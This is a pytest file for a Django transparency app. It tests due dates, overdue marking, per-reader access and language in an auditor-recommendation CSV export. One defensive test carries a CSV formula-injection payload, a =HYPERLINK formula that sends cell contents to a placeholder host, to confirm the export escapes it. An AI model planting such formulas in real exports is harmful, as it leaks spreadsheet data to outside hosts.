"""An auditor's recommendation carries the day its answer is due (decision 0141): set when
filing (30 days by default), shown to the addressed body, marked overdue while unanswered after
it; and the recommendations one may read download as CSV."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from netral.accounts.models import Organisation
from netral.transparency import policies, services
from netral.transparency.models import AuditRecommendation
from netral.transparency.tests.test_auditors import auditor  # noqa: F401 - fixture

pytestmark = pytest.mark.django_db


def _bawaslu_bantul():
    return Organisation.objects.get(kind=Organisation.Kind.BAWASLU_KABKOTA)


def _file(auditor, title="Percepat kajian", **extra):  # noqa: F811
    return services.file_recommendation(
        by=auditor,
        auditor=policies.filing_organisations(auditor)[0],
        addressed_to=_bawaslu_bantul(),
        title=title,
        body="Kajian melewati tenggat.",
        now=timezone.now(),
        **extra,
    )


def test_the_auditor_sets_the_day_and_the_addressee_sees_it(
    client,
    auditor,  # noqa: F811
    bawaslu_bantul_officer,
):
    due = timezone.localdate() + dt.timedelta(days=14)
    client.force_login(auditor)
    form = client.get(reverse("transparency:new_recommendation")).context["form"]
    assert form.fields["answer_due"].initial == timezone.localdate() + dt.timedelta(days=30)
    initial = (timezone.localdate() + dt.timedelta(days=30)).isoformat()
    assert f'value="{initial}"' in str(form["answer_due"])  # what a date input can show
    data = {
        "auditor": policies.filing_organisations(auditor)[0].pk,
        "addressed_to": _bawaslu_bantul().pk,
        "title": "Percepat kajian",
        "body": "Kajian melewati tenggat.",
        "answer_due": due.isoformat(),
    }
    assert client.post(reverse("transparency:new_recommendation"), data).status_code == 302
    item = AuditRecommendation.objects.get()
    assert item.answer_due == due
    assert item.events.get().payload["answer_due"] == due.isoformat()
    client.force_login(bawaslu_bantul_officer)
    for url in (
        reverse("transparency:recommendation", args=[item.public_id]),
        reverse("transparency:recommendations"),
    ):
        page = client.get(url).content.decode()
        assert "Jawab paling lambat" in page and due.isoformat() in page
        assert "Lewat tenggat" not in page


@pytest.mark.parametrize(
    ("days", "message"),
    [(0, "Pilih tanggal sesudah hari ini."), (400, "Pilih tanggal dalam satu tahun.")],
)
def test_a_day_out_of_range_is_refused_with_a_message(
    client,
    auditor,  # noqa: F811
    bawaslu_bantul_officer,
    days,
    message,
):
    client.force_login(auditor)
    data = {
        "auditor": policies.filing_organisations(auditor)[0].pk,
        "addressed_to": _bawaslu_bantul().pk,
        "title": "T",
        "body": "B",
        "answer_due": (timezone.localdate() + dt.timedelta(days=days)).isoformat(),
    }
    response = client.post(reverse("transparency:new_recommendation"), data)
    assert response.status_code == 200 and message in response.content.decode()
    assert not AuditRecommendation.objects.exists()


def test_overdue_while_unanswered_after_the_day(client, auditor, bawaslu_bantul_officer):  # noqa: F811
    item = _file(auditor)
    assert item.answer_due == timezone.localdate() + dt.timedelta(days=30)
    AuditRecommendation.objects.filter(pk=item.pk).update(
        answer_due=timezone.localdate() - dt.timedelta(days=1)
    )
    item.refresh_from_db()
    assert item.is_overdue()
    client.force_login(bawaslu_bantul_officer)
    assert "Lewat tenggat" in client.get(reverse("transparency:recommendations")).content.decode()
    services.answer_recommendation(
        by=bawaslu_bantul_officer,
        recommendation=item,
        answer="accepted",
        response="Ya.",
        now=timezone.now(),
    )
    item.refresh_from_db()
    assert not item.is_overdue()


def _rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_holds_what_each_may_read(
    client,
    auditor,  # noqa: F811
    bawaslu_bantul_officer,
    bkn_officer,
):
    item = _file(auditor, answer_due=timezone.localdate() + dt.timedelta(days=7))
    url = reverse("transparency:recommendations_csv")
    assert client.get(url).status_code == 302  # the public: to the login page
    for reader in (auditor, bawaslu_bantul_officer):
        client.force_login(reader)
        [row] = _rows(client.get(url))
        assert row["Judul"] == item.title
        assert row["Jawab paling lambat"] == item.answer_due.isoformat()
        assert row["Lewat tenggat"] == "Tidak" and row["Status"] == "Menunggu tanggapan"
        assert row["Ditujukan kepada"] == _bawaslu_bantul().name
    client.force_login(bkn_officer)  # neither the auditor nor the addressee
    assert _rows(client.get(url)) == []


def test_the_csv_opens_typed_text_as_text_never_as_a_formula(
    client,
    auditor,  # noqa: F811
    bawaslu_bantul_officer,
):
    _file(auditor, title='=HYPERLINK("http://contoh.invalid/?"&A1,"Buka")')
    client.force_login(auditor)
    [row] = _rows(client.get(reverse("transparency:recommendations_csv")))
    assert row["Judul"] == '\'=HYPERLINK("http://contoh.invalid/?"&A1,"Buka")'


def test_the_csv_speaks_the_readers_language(
    client,
    auditor,  # noqa: F811
    bawaslu_bantul_officer,
):
    _file(auditor, answer_due=timezone.localdate() - dt.timedelta(days=1))
    client.force_login(auditor)
    client.cookies["django_language"] = "en"
    [row] = _rows(client.get(reverse("transparency:recommendations_csv")))
    assert row["Status"] == "Awaiting a response" and row["Overdue"] == "Yes"
    assert row["Answer"] == "" and row["Answered at"] == ""
